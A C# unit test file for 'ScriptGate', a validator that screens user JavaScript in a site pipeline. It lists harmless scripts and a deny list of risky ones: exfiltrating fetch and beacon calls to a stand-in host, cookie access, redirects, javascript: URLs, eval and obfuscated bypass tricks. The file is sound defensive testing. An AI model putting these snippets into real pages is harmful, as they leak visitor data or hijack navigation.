using PersonaSite.Pipeline.Assembly;

namespace PersonaSite.Tests.Pipeline.Assembly;

public sealed class ScriptGateTests
{
    [Theory]
    [InlineData("")]
    [InlineData("document.querySelector('.menu').addEventListener('click', e => e.currentTarget.classList.toggle('open'));")]
    [InlineData("const io = new IntersectionObserver(es => { for (const e of es) if (e.isIntersecting) { e.target.classList.add('in'); io.unobserve(e.target); } }, { threshold: .2 }); document.querySelectorAll('section').forEach(s => io.observe(s));")]
    [InlineData("(function(){var d=document.getElementsByTagName('details');for(var i=0;i<d.length;i++){d[0].open=false;}})();")]
    [InlineData("const n = 3 / 2 / 1; const words = `a ${n} b`.split(/[\\s/]+/g); // done")]
    [InlineData("const menu = document.getElementById('menu'); const links = [...menu.querySelectorAll('a')].map(l => l.hash.slice(1)); menu.setAttribute('aria-expanded', 'true');")]
    [InlineData("if (window.matchMedia('(prefers-reduced-motion: reduce)').matches) { document.documentElement.style.setProperty('--move', '0'); }")]
    public void Harmless_scripts_pass(string script) => ScriptGate.Refusal(script).ShouldBeNull();

    [Theory]
    [InlineData("fetch('https://e.example/?' + document.title)")]
    [InlineData("new XMLHttpRequest()")]
    [InlineData("new Image().src = '//e.example'")]
    [InlineData("navigator.sendBeacon('/x')")]
    [InlineData("eval('1')")]
    [InlineData("new Function('return 1')()")]
    [InlineData("[].constructor.constructor('return 1')()")]
    [InlineData("import('x')")]
    [InlineData("import x from 'y'")]
    [InlineData("document.cookie")]
    [InlineData("localStorage.setItem('a', 'b')")]
    [InlineData("location = 'https://e.example'")]
    [InlineData("window.location.href = 'https://e.example'")]
    [InlineData("window.open('https://e.example')")]
    [InlineData("open('https://e.example')")]
    [InlineData("parent.postMessage('x', '*')")]
    [InlineData("document.body.innerHTML = '<p>'")]
    [InlineData("document.write('x')")]
    [InlineData("window['loc' + 'ation'] = 'x'")]
    [InlineData("const k = 'location'; window[k] = 'x'")]
    [InlineData("document?.['cookie']")]
    [InlineData("const { location: l } = document; l.assign('x')")]
    [InlineData("const { ['loc' + 'ation']: l } = document;")]
    [InlineData("f(a, { ['x' + 'y']: 1 })")]
    [InlineData("\\u0066etch('x')")]
    [InlineData("setTimeout('alert(1)', 1)")]
    [InlineData("el.setAttribute('href', 'javascript:alert(1)')")]
    [InlineData("el.setAttribute(name, value)")]
    [InlineData("document.querySelector('a').click()")]
    [InlineData("`${fetch('x')}`")]
    [InlineData("with (document) { cookie }")]
    [InlineData("el.style.background = 'x'; el.unknownThing()")]
    public void Scripts_that_could_reach_out_are_refused(string script) => ScriptGate.Refusal(script).ShouldNotBeNull();

    [Theory]
    [InlineData("function f() {")]
    [InlineData("f(1]")]
    [InlineData("'never closed")]
    [InlineData("`never closed")]
    [InlineData("`${never closed")]
    [InlineData("/* never closed")]
    [InlineData("x = /never closed")]
    [InlineData("}")]
    public void Scripts_that_do_not_parse_are_refused(string script) => ScriptGate.Refusal(script).ShouldNotBeNull();

    [Fact]
    public void Large_scripts_are_refused() => ScriptGate.Refusal(new string(';', 5_001)).ShouldNotBeNull();

    [Fact]
    public void The_page_kits_own_script_would_pass() =>
        ScriptGate.Refusal(File.ReadAllText(Path.Combine(Repository.Root, "wwwroot-assets/page/script.js"))).ShouldBeNull();
}
